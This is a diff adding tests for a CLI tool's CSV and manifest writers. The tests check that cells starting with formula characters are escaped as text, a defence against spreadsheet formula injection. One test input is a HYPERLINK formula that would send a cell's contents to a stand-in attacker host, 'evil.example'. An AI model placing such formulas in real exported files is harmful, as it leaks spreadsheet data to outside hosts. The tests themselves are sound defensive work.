@@ -1,8 +1,10 @@
-// The batch command's CSV reader and writer: RFC 4180 as Excel writes it, with line numbers.
+// The batch command's CSV reader and writer (RFC 4180 as Excel writes it, with line numbers),
+// and the manifest it writes for spreadsheets.
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import fc from 'fast-check';
 import { CsvSyntaxError, formatCsv, parseCsv } from '../../src/node/cli/csv.js';
+import { formatManifest, type ManifestEntry } from '../../src/node/cli/manifest.js';
 
 const fields = (text: string) => parseCsv(text).map((record) => record.fields);
 
@@ -74,4 +76,66 @@ describe('formatCsv', () => {
       }),
     );
   });
+});
+
+describe('formatCsv with formulasAsText', () => {
+  // OWASP's formula starts are shown as text (a leading ', quoted); anything else is as before.
+  const cases: [string, string, string][] = [
+    ['as text: starts with =', '=1+1', `"'=1+1"`],
+    ['as text: starts with +', '+1+1', `"'+1+1"`],
+    ['as text: starts with -', '-spring', `"'-spring"`],
+    ['as text: starts with @', '@SUM(A1)', `"'@SUM(A1)"`],
+    ['as text: starts with a tab', '\t=1+1', `"'\t=1+1"`],
+    ['as text: starts with a carriage return', '\r=1+1', `"'\r=1+1"`],
+    ['as text: a formula with quotes and commas', '=HYPERLINK("https://evil.example/?"&A1,"a, b")', `"'=HYPERLINK(""https://evil.example/?""&A1,""a, b"")"`],
+    ['as is: formula characters after the start', 'p=a;c=-b+c@d', 'p=a;c=-b+c@d'],
+    ['as is: a URL', 'https://bizmessage.kakao.com/chat/open/@brand?extra=p%3Da', 'https://bizmessage.kakao.com/chat/open/@brand?extra=p%3Da'],
+    ['as is: a leading quote mark, already text', "'=1", "'=1"],
+    ['as is: empty', '', ''],
+  ];
+  for (const [name, value, written] of cases) {
+    it(`writes ${name}`, () => {
+      assert.equal(formatCsv([['x', value]], { formulasAsText: true }), `x,${written}\r\n`);
+    });
+  }
+
+  it('is off by default: the reader gets every field back as it was', () => {
+    const records = cases.map(([, value]) => ['x', value]);
+    assert.deepEqual(fields(formatCsv(records)), records);
+  });
+});
+
+describe('formatManifest', () => {
+  // Values no CSV row can produce today (names start with a letter or digit; extra with a key;
+  // URLs with https:), so the writer's guard is tested on its own.
+  const entry: ManifestEntry = {
+    line: 2,
+    name: '=cmd',
+    file: '+x.svg',
+    format: 'svg',
+    url: '@SUM(A1)',
+    extra: '-1+1',
+    shortened: ['=a'],
+    dropped: [],
+  };
+  const cases: [string, ManifestEntry, string][] = [
+    [
+      'formulas in every cell',
+      entry,
+      '\uFEFFline,name,file,format,url,extra,shortened,dropped\r\n' + `2,"'=cmd","'+x.svg",svg,"'@SUM(A1)","'-1+1","'=a",\r\n`,
+    ],
+    [
+      'an ordinary row',
+      { ...entry, name: 'poster_a', file: 'poster_a.svg', url: 'https://bizmessage.kakao.com/chat/open/@brand?extra=p%3D-a', extra: 'p=-a', shortened: [] },
+      '\uFEFFline,name,file,format,url,extra,shortened,dropped\r\n' + '2,poster_a,poster_a.svg,svg,https://bizmessage.kakao.com/chat/open/@brand?extra=p%3D-a,p=-a,,\r\n',
+    ],
+  ];
+  for (const [name, row, csv] of cases) {
+    it(`CSV for spreadsheets, no cell a formula: ${name}`, () => assert.equal(formatManifest([row], 'csv'), csv));
+    it(`JSON for programs, every value exact: ${name}`, () => {
+      const json = formatManifest([row], 'json');
+      assert.deepEqual(JSON.parse(json), [row]);
+      assert.equal(json, `${JSON.stringify([row], null, 2)}\n`);
+    });
+  }
 });
